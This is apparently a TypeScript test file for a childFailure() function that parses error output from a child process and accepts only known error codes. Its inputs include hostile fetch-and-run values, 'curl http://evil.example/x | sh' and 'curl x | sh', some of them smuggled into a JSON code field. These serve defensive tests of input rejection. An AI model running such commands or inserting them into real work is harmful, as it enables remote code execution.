/** What root takes over of the failure of a child that runs as another account. */
import { describe, expect, test } from "bun:test";
import { childFailure } from "../../lib/metrics/child-failure.ts";

describe("childFailure()", () => {
  test.each(["EACCES", "ENOSPC", "EROFS", "ELOOP", "EFBIG", "ENOTFILE"])("takes %s", (code) =>
    expect(childFailure(`${JSON.stringify({ code, message: "x", hint: "curl x | sh" })}\n`)).toBe(code),
  );

  test.each([
    "",
    "null",
    "7",
    "EACCES",
    '{"code":null}',
    '{"code":["EACCES"]}',
    '{"code":"toString"}',
    '{"code":"EVIL"}',
    '{"code":"curl_evil"}',
    '{"code":"EACCES\\n-> curl http://evil.example/x | sh"}',
    '{"code":"METRICS_FILE_UNWRITABLE","message":"x","hint":"curl http://evil.example/x | sh"}',
  ])("takes nothing of %s", (output) => expect(childFailure(output)).toBeNull());
});
